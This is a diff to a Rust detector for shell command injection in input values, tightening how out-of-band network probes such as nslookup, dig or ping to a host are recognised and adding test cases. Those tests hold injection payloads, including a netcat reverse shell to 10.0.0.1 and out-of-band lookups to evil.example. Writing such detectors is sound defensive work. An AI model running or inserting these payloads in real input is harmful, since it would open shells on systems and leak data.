@@ -673,20 +673,34 @@ fn network_tool(name: &str) -> bool {
 /// A host name as the argument of a network tool: for a command no
 /// sentence uses (`& nslookup x.oast.example &`) or after a separator prose
 /// does not write (`;host evil.example`); not an English word after a lone
-/// `&` / `|` (`web & host example.com`).
+/// `&` / `|` (`web & host example.com`). An out-of-band probe ends at the
+/// host: unless the tool is one no sentence uses and the separator is not
+/// a line break, the host must end the value or its command (`;`, `|`,
+/// `&`, a backtick, a line break, `)` or a quote follow). Support text goes
+/// on after it: `site down; ping example.com fails`, `\nssh build.example.org
+/// then deploy`.
 fn host_arg(r: &Reader<'_>, name: &str, spaced: bool, strength: Strength, sep: Sep) -> bool {
-    spaced
-        && (strength == Strength::Strong || sep != Sep::Weak)
-        && network_tool(name)
-        && host_name_at(&r.v[r.i..])
+    if !spaced || !(strength == Strength::Strong || sep != Sep::Weak) || !network_tool(name) {
+        return false;
+    }
+    let rest = &r.v[r.i..];
+    let Some(end) = host_name_at(rest) else {
+        return false;
+    };
+    let after = rest[end..]
+        .iter()
+        .find(|&&c| !matches!(c, b' ' | b'\t' | b'\r'));
+    (strength == Strength::Strong && sep != Sep::Line)
+        || after
+            .is_none_or(|c| matches!(c, b';' | b'|' | b'&' | b'`' | b'\n' | b')' | b'\'' | b'"'))
 }
 
-/// Whether `r` starts with a host name or IPv4 address as one shell word
-/// (`evil.example`, `a.b.oastify.com`, `10.0.0.1`): dot-separated labels of
-/// letters, digits and `-`, the last one letters (a top-level domain) or
-/// all four digits. Prose words after these commands (`host parties`)
-/// have no dot.
-fn host_name_at(r: &[u8]) -> bool {
+/// If `r` starts with a host name or IPv4 address as one shell word
+/// (`evil.example`, `a.b.oastify.com`, `10.0.0.1`), where it ends:
+/// dot-separated labels of letters, digits and `-`, the last one letters
+/// (a top-level domain), or an IPv4 address. Prose words after these
+/// commands (`host parties`) have no dot.
+fn host_name_at(r: &[u8]) -> Option<usize> {
     let end = r
         .iter()
         .take(254)
@@ -698,20 +712,19 @@ fn host_name_at(r: &[u8]) -> bool {
             b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|' | b'&' | b'`' | b')' | b'\'' | b'"'
         )
     }) {
-        return false;
+        return None;
     }
     let word = r[..end].strip_suffix(b".").unwrap_or(&r[..end]);
     let labels = word.split(|&c| c == b'.');
-    let (mut n, mut last_alpha, mut all_digits) = (0usize, false, true);
+    let (mut n, mut last_alpha) = (0usize, false);
     for l in labels {
         if l.is_empty() || l.len() > 63 {
-            return false;
+            return None;
         }
         n += 1;
         last_alpha = l.len() >= 2 && l.iter().all(u8::is_ascii_alphabetic);
-        all_digits &= l.iter().all(u8::is_ascii_digit);
     }
-    n >= 2 && last_alpha || n == 4 && all_digits
+    (n >= 2 && last_alpha || is_ipv4(word)).then_some(end)
 }
 
 /// The command a word names: `cat`, `/bin/cat`, `/???/c?t`, `C:\…\cmd.exe`.
@@ -917,6 +930,15 @@ mod tests {
                 "x && ca${u}t /etc/hosts",
                 "name\";uname -a;\"",
                 "a'$(nc -e /bin/sh 10.0.0.1 4444)'",
+                // Out-of-band probes end at the host.
+                "a;host evil.example",
+                "a\nwhois evil.example",
+                "a\nping evil.example\n",
+                "&nslookup evil.example&'\\\"`0&nslookup evil.example&`'",
+                "a;dig evil.example;",
+                "x;ping 10.0.0.1",
+                "a\nssh evil.example",
+                "a;ssh evil.example then",
             ],
         );
     }
@@ -958,6 +980,15 @@ mod tests {
                 "Ben & Jerry's | Free delivery",
                 "ad_storage:granted;analytics_storage:granted",
                 "query {\n  user {\n    id\n    date\n    type\n    ls\n  }\n}",
+                // A network tool and a host in support text: the sentence goes on after the host.
+                "Our site is down.\nPing example.com times out",
+                "site down; ping example.com fails",
+                "Steps:\nssh build.example.org then deploy",
+                "\ndig example.com returns NXDOMAIN",
+                "Checked: ping 10.0.0.1 works, dig example.org too",
+                "Note; host example.com on port 8080 please",
+                "Tried:\nwhois example.net shows the old owner",
+                "Try again; ping api.example.com with a longer timeout",
             ],
         );
     }
